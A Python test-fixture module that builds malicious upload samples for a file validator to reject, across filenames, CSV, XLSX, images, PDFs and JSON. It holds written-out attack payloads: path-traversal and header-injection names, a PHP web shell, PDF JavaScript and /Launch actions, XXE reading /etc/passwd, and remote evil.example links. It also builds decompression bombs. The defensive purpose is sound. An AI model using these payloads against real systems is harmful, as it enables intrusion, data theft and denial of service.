"""What must never be accepted: by name, the file's name, its content, and words of the reason that a user is told."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

import openpyxl
import PIL.Image
from openpyxl.chart import BarChart
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, NameObject, TextStringObject

from unit.gatehouse.uploads.making import (
    PAGE,
    SHEET,
    TYPES,
    dictionary,
    pdf,
    picture,
    png_chunk,
    png_of_size,
    raw_pdf,
    rezipped,
    saved,
    sheet_xml,
    webp_of_size,
    with_action,
    with_annotation,
    workbook,
)


class Bad(NamedTuple):
    """One such file; `make` returns its content."""

    name: str
    make: Callable[[], bytes]
    reason: str


def _digits(count: int) -> str:
    """Digits that don't compress as one repeated would."""
    return "".join(str(number) for number in range(10**6, 10**6 + count // 7 + 1))[:count]


def _elements(element: str, count: int) -> str:
    return "".join(element % number for number in range(count))


def _names() -> dict[str, Bad]:
    png = lambda: picture("png")  # noqa: E731
    return {
        "program behind a PDF's name": Bad("invoice.pdf.exe", pdf, "another ending"),
        "script before the ending": Bad("shell.php.png", png, "two endings"),
        "script before the ending, in capitals": Bad("shell.PHP5.png", png, "two endings"),
        "web page before the ending": Bad("page.html.pdf", pdf, "two endings"),
        "ending after blanks": Bad("photo.png .exe", png, "another ending"),
        "ending with a blank": Bad("photo.png ", png, "another ending"),
        "ending with a dot": Bad("photo.png.", png, "another ending"),
        "no ending": Bad("photo", png, "another ending"),
        "nothing but an ending": Bad(".png", png, "no name before"),
        "NUL that ends the name for others": Bad("shell.php\0.png", png, "invisible"),
        "line break in the name": Bad("a\r\nSet-Cookie: x.png", png, "invisible"),
        "escape sequence in the name": Bad("\x1b[2Ja.png", png, "invisible"),
        "name that reads from right to left": Bad("invoice\u202efdp.png", png, "invisible"),
        "isolated direction in the name": Bad("invoice\u2067gnp.png", png, "invisible"),
        "half of a surrogate pair": Bad("a\ud800.png", png, "invisible"),
        "name that leads out": Bad("../../etc/cron.d/a.png", png, "slash"),
        "name that leads out on Windows": Bad("..\\..\\a.png", png, "slash"),
        "very long name": Bad("a" * 300 + ".png", png, "too long"),
        "SVG with a script": Bad("logo.svg", lambda: b"<svg><script>alert(1)</script></svg>", "another ending"),
        "workbook with macros by its name": Bad("sheet.xlsm", workbook, "another ending"),
        "old workbook": Bad("sheet.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "another ending"),
        "pickle": Bad("data.pkl", lambda: b"\x80\x04K\x01.", "another ending"),
    }


def _csv() -> dict[str, Bad]:
    def table(text: str | bytes) -> Callable[[], bytes]:
        return lambda: text if isinstance(text, bytes) else text.encode()

    return {
        "empty CSV": Bad("a.csv", table(""), "is empty"),
        "blank CSV": Bad("a.csv", table("\n \n,,\n"), "no headings"),
        "CSV of 11 MB": Bad("a.csv", table("a\n" + "x\n" * 5_500_000), "too large"),
        "CSV of too many rows": Bad("a.csv", table("a\n" + "1\n" * 100_001), "more than 100,000 rows"),
        "CSV of blank rows alone": Bad("a.csv", table("\n" * 2_000_000), "cells"),
        "CSV of too many columns": Bad("a.csv", table(",".join(f"c{n}" for n in range(201)) + "\n"), "200 columns"),
        "CSV of nothing but commas": Bad("a.csv", table("a,b\n" + "," * 9_000_000), "line 2|cells|not CSV"),
        "CSV with a cell of 40,000 characters": Bad("a.csv", table("a\n" + "x" * 40_000), "32,767"),
        "CSV with a cell of 1,000,000 digits": Bad("a.csv", table("a\n" + "1" * 1_000_000), "not CSV"),
        "CSV with an open quote": Bad("a.csv", table('a,b\n"1,2\n3,4\n'), "quote"),
        "CSV with a quote inside": Bad("a.csv", table('a,b\n"1"x,2\n'), "quote"),
        "CSV with a row too long": Bad("a.csv", table("a,b\n1,2,3\n"), "only 2 headings"),
        "CSV with a row too short": Bad("a.csv", table("a,b,c\n1,2\n"), "has 2 cells"),
        "CSV with one heading twice": Bad("a.csv", table("a,b,a\n1,2,3\n"), "1 and 3"),
        "CSV with a heading missing": Bad("a.csv", table("a,,c\n1,2,3\n"), "Column 2"),
        "CSV with a heading of 300 characters": Bad("a.csv", table("x" * 300 + "\n1\n"), "200 characters"),
        "CSV with NUL": Bad("a.csv", table("a\nx\0y\n"), "control characters|not CSV"),
        "CSV with an escape sequence": Bad("a.csv", table("a\n\x1b]0;x\x07\n"), "control characters"),
        "CSV in Latin-1": Bad("a.csv", table("Größe\n1\n".encode("latin-1")), "UTF-8"),
        "CSV in UTF-16 without a mark": Bad("a.csv", table("a,b\n1,2\n".encode("utf-16-le")), "control characters|CSV"),
        "CSV in UTF-16, cut in a character": Bad("a.csv", table("a\nx\n".encode("utf-16")[:-1]), "UTF-8"),
        "CSV in UTF-32": Bad("a.csv", table("a\nx\n".encode("utf-32")), "control characters"),
        "workbook called CSV": Bad("a.csv", workbook, "ZIP archive or an Office file"),
        "web page called CSV": Bad("a.csv", table("<!DOCTYPE html><script>x</script>"), "web page"),
        "program called CSV": Bad("a.csv", table(b"MZ\x90\x00"), "Windows program"),
        "pickle called CSV": Bad("a.csv", table(b"\x80\x04K\x01."), "pickle"),
    }


def _xlsx() -> dict[str, Bad]:
    def part(name: str, data: bytes | Callable[[bytes], bytes] = b"x") -> Callable[[], bytes]:
        return lambda: rezipped(workbook(), {name: data})

    def sheet(inner: str, before: str = "") -> Callable[[], bytes]:
        return part(SHEET, sheet_xml(inner, before))

    def relation(kind: str, target: str) -> Callable[[bytes], bytes]:
        base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        link = f'<Relationship Id="rX" Type="{base}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
        return lambda before: before.replace(b"</Relationships>", link.encode())

    def encrypted() -> bytes:
        content = bytearray(workbook())
        at = content.rindex(b"PK\x01\x02")
        content[at + 8] |= 1
        return bytes(content)

    def twice() -> bytes:
        written = io.BytesIO(workbook())
        with zipfile.ZipFile(written, "a") as archive:
            archive.writestr(SHEET.upper(), b"<worksheet/>")
        return written.getvalue()

    def packed_by_lzma() -> bytes:
        written = io.BytesIO(workbook())
        with zipfile.ZipFile(written, "a", zipfile.ZIP_LZMA) as archive:
            archive.writestr("xl/a.xml", b"x")
        return written.getvalue()

    def with_nul() -> bytes:
        content = rezipped(workbook(), {"xl/a_b.xml": b"x"})
        return content.replace(b"xl/a_b.xml", b"xl/a\0b.xml")

    def chart_open() -> bytes:
        book = openpyxl.Workbook()
        book.create_chartsheet("Chart").add_chart(BarChart())
        book.active = 1
        return saved(book)

    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>%s</t></is></c></row>'
    macro_type = lambda types: types.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")  # noqa: E731
    word_type = lambda types: types.replace(b"spreadsheetml.sheet.main", b"wordprocessingml.document.main")  # noqa: E731
    return {
        "zip bomb in the sheet": Bad("a.xlsx", part(SHEET, b" " * 50_000_000), "far more"),
        "zip bomb beside the sheet": Bad("a.xlsx", part("xl/media/a.bin", b"\0" * 200_000_000), "when unpacked"),
        "workbook of 2,000 parts": Bad(
            "a.xlsx", lambda: rezipped(workbook(), {f"xl/media/{n}.png": b"" for n in range(2000)}), "too many parts"
        ),
        "archive inside the workbook": Bad("a.xlsx", part("xl/media/a.zip"), "another archive"),
        "part that leads out": Bad("a.xlsx", part("../../etc/passwd"), "leads out"),
        "part with a whole path": Bad("a.xlsx", part("/etc/passwd"), "leads out"),
        "part that leads out on Windows": Bad("a.xlsx", part("xl\\..\\..\\a.dll"), "leads out"),
        "part on a drive": Bad("a.xlsx", part("C:/a.dll"), "leads out"),
        "part with NUL": Bad("a.xlsx", with_nul, "leads out"),
        "one part twice": Bad("a.xlsx", twice, "two parts"),
        "encrypted part": Bad("a.xlsx", encrypted, "encrypted"),
        "part packed by LZMA": Bad("a.xlsx", packed_by_lzma, "unusual way"),
        "macros": Bad("a.xlsx", part("xl/vbaProject.bin"), "macros"),
        "macros by type": Bad("a.xlsx", part(TYPES, macro_type), "macros"),
        "macros of Excel 4": Bad("a.xlsx", part("xl/macrosheets/sheet1.xml"), "macros"),
        "ActiveX": Bad("a.xlsx", part("xl/activeX/activeX1.xml"), "macros"),
        "OLE object": Bad("a.xlsx", part("xl/embeddings/oleObject1.bin"), "objects in it"),
        "link to another workbook": Bad("a.xlsx", part("xl/externalLinks/externalLink1.xml"), "links to other"),
        "data connection": Bad("a.xlsx", part("xl/connections.xml"), "links to other"),
        "image from elsewhere": Bad(
            "a.xlsx", part("_rels/.rels", relation("image", "http://evil.example/a.png")), "from elsewhere"
        ),
        "template from elsewhere": Bad(
            "a.xlsx",
            part("xl/_rels/workbook.xml.rels", relation("attachedTemplate", "file://evil/x")),
            "from elsewhere",
        ),
        "XML entities in the sheet": Bad("a.xlsx", sheet(cell % "&b;", laughs), "entities"),
        "XML entity from a file": Bad("a.xlsx", sheet(cell % "&a;", outside), "entities"),
        "XML entities in the text": Bad(
            "a.xlsx", part("xl/sharedStrings.xml", laughs.encode() + b"<sst><si><t>&b;</t></si></sst>"), "entities"
        ),
        "XML entities in the list of types": Bad(
            "a.xlsx", part(TYPES, lambda types: laughs.encode() + types.partition(b"?>")[2]), "entities"
        ),
        "XML declared from elsewhere": Bad(
            "a.xlsx",
            part("_rels/.rels", lambda _: b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><Relationships/>'),
            "entities",
        ),
        "styles of 3 MB": Bad("a.xlsx", part("xl/styles.xml", f"<a>{_digits(3_000_000)}</a>".encode()), "large parts"),
        "styles of a million formats": Bad(
            "a.xlsx", part("xl/worksheets/b.xml", ("<a>" + _elements("<xf>%d</xf>", 1_000_000)).encode()), "large parts"
        ),
        "two million shared texts": Bad(
            "a.xlsx",
            part("xl/sharedStrings.xml", ("<sst>" + _elements("<si><t>%d</t></si>", 2_000_000) + "</sst>").encode()),
            "large parts",
        ),
        "row of a million cells": Bad(
            "a.xlsx", sheet(_elements("<c><v>%d</v></c>", 1_000_000).join(("<row>", "</row>"))), "large parts"
        ),
        "element of a million attributes": Bad(
            "a.xlsx", sheet(_elements("a%d='' ", 1_000_000).join(("<row ", "></row>"))), "large parts"
        ),
        "row 1,000,000 alone": Bad(
            "a.xlsx", sheet(cell % "a" + '<row r="1000000"><c r="A1000000"><v>1</v></c></row>'), "rows|cells"
        ),
        "column XFD alone": Bad("a.xlsx", sheet('<row r="1"><c r="XFD1"><v>1</v></c></row>'), "200 columns"),
        "row of an absurd number": Bad(
            "a.xlsx", sheet(cell % "a" + '<row r="99999999999999"><c><v>1</v></c></row>'), "rows|cells|damaged"
        ),
        "too many rows of a workbook": Bad(
            "a.xlsx",
            sheet(cell % "a" + "".join(f"<row><c><v>{n * 7919}</v></c></row>" for n in range(50_001))),
            "more than 50,000 rows",
        ),
        "index of text that is not there": Bad(
            "a.xlsx", sheet('<row r="1"><c r="A1" t="s"><v>999999</v></c></row>'), "damaged"
        ),
        "number of 10,000 digits": Bad(
            "a.xlsx", sheet(cell % "a" + f'<row r="2"><c r="A2"><v>{_digits(10_000)}</v></c></row>'), "damaged"
        ),
        "number of 30 digits": Bad(
            "a.xlsx", sheet(cell % "a" + f'<row r="2"><c r="A2"><v>1{"0" * 30}</v></c></row>'), "too large"
        ),
        "no rows": Bad("a.xlsx", sheet(""), "no headings"),
        "saved with a chart open": Bad("a.xlsx", chart_open, "chart open"),
        "program in front": Bad("a.xlsx", lambda: b"MZ\x90\x00" + workbook(), "Windows program"),
        "archive in front": Bad("a.xlsx", lambda: b"PK\x03\x04" + b"\0" * 40 + workbook(), "in front"),
        "web page at the end": Bad("a.xlsx", lambda: workbook() + b"<script>alert(1)</script>", "appended"),
        "cut short": Bad("a.xlsx", lambda: workbook()[:-40], "cut short"),
        "no archive at all": Bad("a.xlsx", lambda: b"item,amount\n", "damaged"),
        "Word document": Bad("a.xlsx", part(TYPES, word_type), "Office file"),
        "workbook with a password": Bad(
            "a.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "password"
        ),
        "broken XML": Bad("a.xlsx", part(SHEET, b"<worksheet"), "damaged"),
    }


def _images() -> dict[str, Bad]:
    def animated(form: str) -> bytes:
        frames = [PIL.Image.new("RGB", (20, 20), color) for color in ("red", "green", "blue")]
        written = io.BytesIO()
        frames[0].save(written, form, save_all=True, append_images=frames[1:])
        return written.getvalue()

    def tiff() -> bytes:
        return picture("tiff")

    def text_bomb() -> bytes:
        png = picture("png")
        text = b"a\0\0" + zlib.compress(b"x" * 100_000_000, 9)
        return png[:33] + png_chunk(b"zTXt", text) + png[33:]

    return {
        "pixel bomb": Bad("a.png", lambda: png_of_size(50_000, 50_000), "too large|damaged"),
        "pixel bomb just above": Bad("a.png", lambda: png_of_size(5_001, 5_000), "too large"),
        "image of one long row": Bad("a.png", lambda: png_of_size(20_000, 1), "too large"),
        "JPEG bomb": Bad("a.jpg", lambda: picture("jpeg", (6_000, 6_000), "L"), "too large"),
        "WebP bomb": Bad("a.webp", lambda: webp_of_size(12_000, 12_000), "too large"),
        "text bomb in a PNG": Bad("a.png", text_bomb, "damaged"),
        "moving PNG": Bad("a.png", lambda: animated("png"), "animated"),
        "moving WebP": Bad("a.webp", lambda: animated("webp"), "animated"),
        "GIF called PNG": Bad("a.png", lambda: picture("gif"), "GIF image"),
        "TIFF called JPEG": Bad("a.jpg", tiff, "TIFF image"),
        "JPEG called PNG": Bad("a.png", lambda: picture("jpeg"), "JPEG image"),
        "PDF called JPEG": Bad("a.jpeg", pdf, "a PDF"),
        "SVG called PNG": Bad("a.png", lambda: b"<svg onload=alert(1)>", "web page or XML"),
        "script called PNG": Bad("a.png", lambda: b"<?php system($_GET[0]); ?>", "web page or XML"),
        "PostScript called JPEG": Bad("a.jpg", lambda: b"%!PS-Adobe\n%%BoundingBox: 0 0 9 9\n", "damaged"),
        "first bytes alone": Bad("a.png", lambda: b"\x89PNG\r\n\x1a\n", "damaged"),
        "cut PNG": Bad("a.png", lambda: picture("png")[:-60], "damaged"),
        "cut JPEG": Bad("a.jpg", lambda: picture("jpeg", (400, 300))[:-200], "damaged"),
        "cut WebP": Bad("a.webp", lambda: picture("webp", (400, 300))[:-60], "damaged"),
        "PNG of no width": Bad("a.png", lambda: png_of_size(0, 10), "damaged"),
        "PNG with a wrong checksum": Bad("a.png", lambda: picture("png")[:20] + b"\1" + picture("png")[21:], "damaged"),
        "empty image": Bad("a.png", lambda: b"", "is empty"),
        "image of 11 MB": Bad("a.png", lambda: picture("png") + b"\0" * 11_000_000, "too large"),
    }


def _pdfs() -> dict[str, Bad]:
    def attached(writer: PdfWriter) -> None:
        writer.add_attachment("a.exe", b"MZ")

    def locked(writer: PdfWriter) -> None:
        writer.encrypt("secret")

    def locked_for_changes(writer: PdfWriter) -> None:
        writer.encrypt("", "owner")

    def zipped() -> bytes:
        written = io.BytesIO()
        with zipfile.ZipFile(written, "w") as archive:
            archive.writestr("a.txt", "x")
        body = written.getvalue()
        stream = b"<</Length %d>>stream\n%s\nendstream" % (len(body), body)
        return _comment_to_the_end(raw_pdf(*PAGE, stream))

    def replaced() -> bytes:
        """The script stands in an older revision; the newest list leads elsewhere."""
        return pdf() + raw_pdf(b"<</S/JavaScript/JS(app.alert(1))>>") + b"\n" + pdf()

    def bomb() -> bytes:
        packed = zlib.compress(zlib.compress(b"\0" * 600_000_000, 9), 9)
        return _with_object_in_stream(packed, b"[/FlateDecode/FlateDecode]", b"/Names 5 0 R")

    def hidden() -> bytes:
        """Only whoever unpacks what nothing leads to finds it."""
        return _with_object_in_stream(zlib.compress(b"5 0 <</S/JavaScript/JS(app.alert(1))>>"), b"/FlateDecode")

    def deep() -> bytes:
        return raw_pdf(*PAGE[:2], b"<</Type/Page/Parent 2 0 R/A " + b"[" * 100_000 + b"]" * 100_000 + b">>")

    def named_script(writer: PdfWriter) -> None:
        names = dictionary(JavaScript=dictionary(Names=ArrayObject([TextStringObject("a"), dictionary(**script)])))
        writer.root_object[NameObject("/Names")] = names

    script = {"S": "/JavaScript", "JS": "app.alert(1)"}
    return {
        "script on opening": Bad("a.pdf", lambda: with_action(**script), "scripts"),
        "script by name": Bad("a.pdf", lambda: pdf(named_script), "scripts"),
        "script on a link": Bad("a.pdf", lambda: with_annotation(Subtype="/Link", A=dictionary(**script)), "scripts"),
        "script on leaving a field": Bad(
            "a.pdf", lambda: with_annotation(Subtype="/Widget", AA=dictionary(Bl=dictionary(**script))), "scripts"
        ),
        "script in disguise": Bad(
            "a.pdf",
            lambda: raw_pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/#4aavaScript/#4aS(x)>>>>", *PAGE[1:]),
            "scripts",
        ),
        "script that nothing leads to": Bad("a.pdf", lambda: raw_pdf(*PAGE, b"<</S/JavaScript/JS(x)>>"), "scripts"),
        "script in an older revision": Bad("a.pdf", replaced, "scripts"),
        "script packed away": Bad("a.pdf", hidden, "scripts"),
        "program start": Bad("a.pdf", lambda: with_action(S="/Launch", F="cmd.exe"), "starts something"),
        "other file opened": Bad("a.pdf", lambda: with_action(S="/GoToR", F="\\\\evil\\x.pdf"), "starts something"),
        "form sent away": Bad("a.pdf", lambda: with_action(S="/SubmitForm", F="http://evil"), "starts something"),
        "data fetched": Bad("a.pdf", lambda: with_action(S="/ImportData", F="x.fdf"), "starts something"),
        "attachment": Bad("a.pdf", lambda: pdf(attached), "other files"),
        "attachment on a page": Bad("a.pdf", lambda: with_annotation(Subtype="/FileAttachment"), "other files"),
        "film": Bad("a.pdf", lambda: with_annotation(Subtype="/RichMedia"), "other files"),
        "form of XML": Bad(
            "a.pdf",
            lambda: raw_pdf(b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA(x)>>>>", *PAGE[1:]),
            "form",
        ),
        "password": Bad("a.pdf", lambda: pdf(locked), "password"),
        "password for changes": Bad("a.pdf", lambda: pdf(locked_for_changes), "password"),
        "web page at the end of a PDF": Bad("a.pdf", lambda: pdf() + b"<script>alert(1)</script>", "appended"),
        "archive at the end of a PDF": Bad("a.pdf", lambda: pdf() + workbook(), "appended"),
        "PDF that is an archive": Bad("a.pdf", zipped, "archive at the same time"),
        "web page in front of a PDF": Bad("a.pdf", lambda: b"<html>" + pdf(), "web page"),
        "PDF cut short": Bad("a.pdf", lambda: pdf()[:-100], "cut short"),
        "PDF of first and last bytes": Bad("a.pdf", lambda: b"%PDF-1.7\n%%EOF", "damaged"),
        "PDF without pages": Bad("a.pdf", lambda: raw_pdf(PAGE[0], b"<</Type/Pages/Kids[]/Count 0>>"), "pages|damaged"),
        "PDF whose pages go round": Bad(
            "a.pdf", lambda: raw_pdf(PAGE[0], b"<</Type/Pages/Kids[2 0 R]/Count 1>>"), "pages|damaged|complicated"
        ),
        "PDF of 501 pages": Bad("a.pdf", lambda: pdf(pages=501), "501 pages"),
        "PDF bomb": Bad("a.pdf", bomb, "damaged|complicated"),
        "PDF nested 100,000 deep": Bad("a.pdf", deep, "damaged|complicated"),
        "program called PDF": Bad("a.pdf", lambda: b"MZ\x90\x00", "Windows program"),
        "image called PDF": Bad("a.pdf", lambda: picture("png"), "PNG image"),
    }


def _comment_to_the_end(content: bytes) -> bytes:
    """Let the archive inside end in a comment: all that follows it."""
    at = content.index(b"PK\x05\x06") + 20
    return content[:at] + (len(content) - at - 2).to_bytes(2, "little") + content[at + 2 :]


def _with_object_in_stream(packed: bytes, packing: bytes, link: bytes = b"") -> bytes:
    """A PDF with object 5 in a packed stream, listed there, and a catalogue with `link`."""
    stream = b"<</Type/ObjStm/N 1/First 4/Filter%s/Length %d>>stream\n%s\nendstream"
    content = raw_pdf(*PAGE, stream % (packing, len(packed), packed))
    root = len(content)
    content += b"6 0 obj\n<</Type/Catalog/Pages 2 0 R%s>>\nendobj\n" % link
    start = len(content)
    rows = b"\2" + (4).to_bytes(4) + b"\0" + b"\1" + root.to_bytes(4) + b"\0" + b"\1" + start.to_bytes(4) + b"\0"
    previous = content.rindex(b"startxref\n") + 10
    body = b"7 0 obj\n<</Type/XRef/Size 8/W[1 4 1]/Index[5 3]/Root 6 0 R/Prev %s/Length %d>>stream\n%s\nendstream"
    content += body % (content[previous : content.index(b"\n", previous)], len(rows), rows)
    return content + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def _json() -> dict[str, Bad]:
    def text(written: str | bytes) -> Callable[[], bytes]:
        return lambda: written if isinstance(written, bytes) else written.encode()

    return {
        "JSON nested 100,000 deep": Bad("a.json", text("[" * 100_000 + "]" * 100_000), "levels deep"),
        "JSON nested 33 deep": Bad("a.json", text("[" * 33 + "]" * 33), "levels deep"),
        "JSON of empty lists": Bad("a.json", text("[" + "[]," * 1_500_000 + "[]]"), "500,000 values"),
        "JSON of 6 MB": Bad("a.json", text('"' + "x" * 6_000_000 + '"'), "too large"),
        "JSON with a name twice": Bad("a.json", text('{"role": "staff", "role": "admin"}'), "twice"),
        "JSON with NaN": Bad("a.json", text("[NaN]"), "NaN"),
        "JSON with -Infinity": Bad("a.json", text("[-Infinity]"), "NaN"),
        "JSON with 1e999": Bad("a.json", text("[1e999]"), "too large"),
        "JSON number of 1,000,000 digits": Bad("a.json", text("1" * 1_000_000), "40 digits"),
        "JSON fraction of 1,000,000 digits": Bad("a.json", text("0." + "1" * 1_000_000), "40 digits"),
        "JSON cut short": Bad("a.json", text('{"a": [1, 2'), "line 1, column"),
        "JSON with a comma too many": Bad("a.json", text('{"a": 1,}'), "line 1, column"),
        "JSON with a comment": Bad("a.json", text("// x\n{}"), "line 1, column 1"),
        "two JSON values": Bad("a.json", text("{} {}"), "line 1, column"),
        "JSON with NUL": Bad("a.json", text('"a\\u0000b"'), "no text"),
        "JSON with half a surrogate pair": Bad("a.json", text('"\\ud800"'), "no text"),
        "JSON with a raw control character": Bad("a.json", text('"\x01"'), "line 1"),
        "JSON in UTF-16": Bad("a.json", text('{"a": 1}'.encode("utf-16")), "UTF-8"),
        "JSON in Latin-1": Bad("a.json", text('"Größe"'.encode("latin-1")), "UTF-8"),
        "JSON with open quotes": Bad("a.json", text('["' + '\\"' * 1_000_000), "line 1"),
        "web page called JSON": Bad("a.json", text("<html></html>"), "line 1"),
        "script called JSON": Bad("a.json", text("__import__('os').system('id')"), "line 1"),
        "empty JSON": Bad("a.json", text(""), "is empty"),
    }


BAD = {**_names(), **_csv(), **_xlsx(), **_images(), **_pdfs(), **_json()}
